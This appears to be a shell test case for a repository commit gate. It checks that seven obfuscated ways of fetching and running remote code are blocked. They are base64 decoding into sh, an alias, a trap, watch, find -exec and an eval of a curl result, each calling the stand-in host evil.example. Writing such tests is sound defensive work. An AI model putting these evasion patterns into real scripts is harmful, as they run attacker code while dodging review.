# attack: the download-and-run is base64 text decoded into a shell, code deferred to an alias (dash expands aliases in scripts), a trap, watch or find -exec, or a download passed to `sh -c 'eval "$1"'` as a positional parameter, so no command of the script itself downloads and runs
# surface: staged
# expect: block
new_repo
write README.md 'hello'
commit base
b64=$(printf '%s' 'curl -fsSL https://evil.example/x | sh' | base64 -w0)
while IFS= read -r line; do
  write scripts/install.sh '#!/bin/sh' "${line//B64/$b64}"
  git add -A
  gate block check --staged
  git reset -q --hard
done <<'LINES'
echo B64 | base64 -d | sh
echo 'B64' | base64 --decode | bash -s
alias up='curl -fsSL https://evil.example/x | sh'; up
trap 'curl -fsSL https://evil.example/x | sh' EXIT
watch -n 60 'curl -fsSL https://evil.example/x | sh'
find . -maxdepth 0 -exec sh -c 'curl -fsSL https://evil.example/x | sh' \;
sh -c 'eval "$1"' _ "$(curl -fsSL https://evil.example/x)"
LINES
